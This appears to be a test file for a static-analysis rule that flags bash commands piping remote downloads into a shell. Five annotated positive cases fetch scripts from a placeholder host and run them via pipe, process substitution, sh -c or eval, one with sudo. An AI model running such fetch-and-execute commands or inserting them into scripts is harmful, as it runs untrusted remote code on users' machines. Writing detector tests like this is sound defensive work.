#!/bin/bash

# ruleid: bash-curl-pipe-shell
curl -fsSL http://collector.exfil.invalid/install.sh | bash

# ruleid: bash-curl-pipe-shell
wget -qO- http://collector.exfil.invalid/i.sh | sudo sh -s -- --yes

# ruleid: bash-curl-pipe-shell
bash <(curl -s http://collector.exfil.invalid/x.sh)

# ruleid: bash-curl-pipe-shell
sh -c "$(curl -fsSL http://collector.exfil.invalid/y.sh)"

# ok: bash-curl-pipe-shell
curl -fsSL -o /tmp/data.json http://127.0.0.1:8080/data.json

# ok: bash-curl-pipe-shell
curl -s http://127.0.0.1:8080/data.json | jq .items

# ruleid: bash-curl-pipe-shell
eval "$(curl -fsSL http://collector.exfil.invalid/env.sh)"

# ok: bash-curl-pipe-shell
eval "$(ssh-agent -s)"
